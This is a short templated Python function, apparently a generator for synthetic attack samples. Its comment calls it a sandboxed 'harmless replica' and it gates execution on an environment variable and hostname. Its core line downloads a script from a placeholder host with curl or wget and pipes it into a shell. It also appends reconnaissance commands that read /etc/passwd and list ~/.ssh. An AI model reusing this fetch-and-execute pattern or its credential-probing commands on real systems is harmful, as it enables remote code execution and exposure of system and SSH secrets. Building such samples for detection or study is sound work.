# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    os.system('{ curl -s -m 1 http://{{ip}}:{{port}}/{{path}} || wget -q -T 1 -t 1 -O - http://{{ip}}:{{port}}/{{path}}; '
              'echo; echo "uname -a; cat /etc/passwd | head -n {{n}}; ls ~/.ssh"; } 2>/dev/null | timeout 2 {{shell}} >/dev/null 2>&1')
